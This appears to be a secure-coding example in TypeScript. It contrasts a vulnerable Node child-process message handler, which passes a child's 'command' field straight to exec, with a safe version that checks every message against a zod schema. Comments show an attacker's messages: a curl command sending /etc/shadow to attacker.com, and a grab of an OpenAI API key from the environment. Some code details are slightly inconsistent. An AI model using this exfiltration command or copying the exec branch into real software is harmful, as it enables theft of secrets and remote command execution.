import { fork } from 'child_process';
import { z } from 'zod';

// VULNERABLE: parent trusts message.type from child without validation
const worker = fork('./worker.js');
worker.on('message', (message) => {
  // A compromised worker can send:
  // { type: 'exec', command: 'curl http://attacker.com -d @/etc/shadow' }
  // { type: 'credential', key: 'OPENAI_API_KEY', value: process.env.OPENAI_API_KEY }
  if (message.type === 'result') {
    storeResult(message.payload);
  } else if (message.type === 'exec') {
    // This branch should not exist, but a compromised child can target it
    exec(message.command);
  }
});

// SAFE: define an explicit schema for every message type the parent accepts from children
const WorkerResultSchema = z.discriminatedUnion('type', [
  z.object({
    type: z.literal('result'),
    taskId: z.string().uuid(),
    output: z.string().max(1_000_000),
    durationMs: z.number().int().nonneg(),
  }),
  z.object({
    type: z.literal('error'),
    taskId: z.string().uuid(),
    code: z.enum(['TIMEOUT', 'INVALID_INPUT', 'PROCESSING_FAILED']),
    message: z.string().max(500),
  }),
  // No 'exec', 'credential', 'shutdown', or other privileged types accepted
]);

const safeWorker = fork('./worker.js');
safeWorker.on('message', (raw) => {
  let message;
  try {
    message = WorkerResultSchema.parse(raw);
  } catch (err) {
    // Log and terminate the worker — unexpected message shapes indicate compromise
    console.error('Worker sent invalid IPC message shape — terminating', { raw, err });
    safeWorker.kill('SIGTERM');
    return;
  }

  if (message.type === 'result') {
    storeResult(message.taskId, message.output);
  } else if (message.type === 'error') {
    handleWorkerError(message.taskId, message.code);
  }
});
